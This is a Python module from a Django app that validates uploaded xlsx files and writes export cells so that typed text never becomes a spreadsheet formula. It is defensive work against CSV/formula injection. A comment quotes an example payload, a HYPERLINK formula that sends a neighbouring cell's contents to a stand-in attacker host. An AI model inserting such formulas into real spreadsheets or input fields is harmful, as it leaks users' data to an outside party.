"""What every xlsx import shares (the file check and the cell-to-text rule, whatever program saved the file), and
the one way every xlsx export writes its cells (no formula injection: see the section at the end)."""

from __future__ import annotations

import datetime as dt
import zipfile
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from django.core.files.uploadedfile import UploadedFile
from django.template.defaultfilters import filesizeformat
from django.utils.translation import gettext as _
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, Cell

if TYPE_CHECKING:  # for the writing section's type hints only
    from openpyxl.styles import Alignment, Border, Font, PatternFill
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
YES, NO = "是", "否"


class XlsxFileError(Exception):
    """The file as a whole cannot be read (not xlsx, too big, no header, a column missing …)."""

    def __init__(self, messages: str | Sequence[str]):
        self.messages = [messages] if isinstance(messages, str) else list(messages)
        super().__init__("; ".join(self.messages))


class CellError(ValueError):
    """One cell's value has the wrong type or is not among the allowed values."""


def normalise(text: str) -> str:
    return text.replace("\u3000", " ").replace("\xa0", " ").strip()


def is_blank(value: Any) -> bool:
    return value is None or (isinstance(value, str) and not normalise(value))


def cell_text(value: Any) -> str:
    """A text cell; numbers typed into text columns (工号 2019001 saved as 2019001.0) come back as digits."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return YES if value else NO
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return normalise(str(value))


def check_xlsx(upload: UploadedFile, *, max_bytes: int) -> None:
    """Refuse, with a message saying what to do, anything that is not an xlsx workbook of reasonable size."""
    name = upload.name or ""
    if not upload.size:
        raise XlsxFileError(_("“%(name)s” is empty.") % {"name": name})
    if upload.size > max_bytes:
        raise XlsxFileError(
            _("“%(name)s” is %(size)s; a file may be at most %(limit)s. Split it into several files.")
            % {"name": name, "size": filesizeformat(upload.size), "limit": filesizeformat(max_bytes)}
        )
    upload.seek(0)
    head = upload.read(8)
    upload.seek(0)
    if head.startswith(b"\xd0\xcf\x11\xe0"):
        raise XlsxFileError(
            _("“%(name)s” is an old-style .xls workbook. Open it and save it as “Excel workbook (.xlsx)”, "
              "then upload it again.") % {"name": name}
        )
    try:
        with zipfile.ZipFile(upload) as archive:
            parts = set(archive.namelist())
    except Exception:  # any damaged or crafted zip (e.g. an unsupported version) is simply not a workbook
        parts = set()
    finally:
        upload.seek(0)
    if "xl/workbook.xml" not in parts:
        raise XlsxFileError(
            _("“%(name)s” is not an Excel workbook (.xlsx). Save the file as .xlsx, for example from the "
              "template, and upload it again.") % {"name": name}
        )


# === Writing: the one way an export puts a value into a sheet ====================================
#
# Every xlsx export writes its cells through `append_row`, `safe_cell` or `write_cell`, so that text a person typed
# (a volunteer's name, a note, a unit's or a task's title …) is never a formula in the file. openpyxl stores any
# str that begins with "=" as a formula, so a volunteer named =HYPERLINK("http://evil.example/?x="&A2,"点我查看")
# would become a live link in the exported roster. Text here is always an explicit string cell (data type "s",
# an inline string in the file: Excel and LibreOffice show it and never evaluate it), and text beginning with a
# sign a spreadsheet program reads as the start of a formula (OWASP's list for CSV injection: = + - @ tab CR) also
# carries Excel's quote prefix, the mark Excel itself sets when someone types '=…: the cell shows the text exactly
# as typed, and stays text even when someone opens it for editing and presses Enter. The full-width signs are
# treated the same way, as Chinese input methods type them and Excel may take them for the ASCII ones.
# tests/test_xlsx_formula_injection.py downloads every export with such text and checks that no cell is a formula.

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could read `text`, typed into a cell, as a formula."""
    return text.startswith(FORMULA_SIGNS)


def _inert(cell: Cell) -> Cell:
    """Make a cell's text a plain string cell (never a formula or an error value), with the quote prefix where
    its first character could start a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if is_formula_like(cell.value):
            cell.quotePrefix = True
    return cell


def safe_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any, *, font: Font | None = None,
              fill: PatternFill | None = None, alignment: Alignment | None = None, border: Border | None = None,
              number_format: str | None = None) -> Cell:
    """A cell of `sheet` holding `value`, styled, to be written with `append_row` (in write-only mode as well).
    Numbers, dates, booleans and None are kept as they are; text is always text, never a formula."""
    cell = WriteOnlyCell(sheet, value=value)
    for name, style in (("font", font), ("fill", fill), ("alignment", alignment), ("border", border),
                        ("number_format", number_format)):
        if style is not None:
            setattr(cell, name, style)
    return _inert(cell)


def _row_value(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    if isinstance(value, Cell):
        return _inert(value)
    if isinstance(value, str) and (is_formula_like(value) or value in ERROR_CODES):
        return safe_cell(sheet, value)
    return value  # plain text openpyxl stores as a string cell anyway; no cell object, so write-only stays fast


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append one row of values (plain values, or cells from `safe_cell`) below the last row of `sheet`."""
    sheet.append([_row_value(sheet, value) for value in values])


def write_cell(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Put `value` into the cell at (row, column) of an ordinary (not write-only) sheet and return the cell."""
    cell = sheet.cell(row, column)
    cell.value = value
    return _inert(cell)
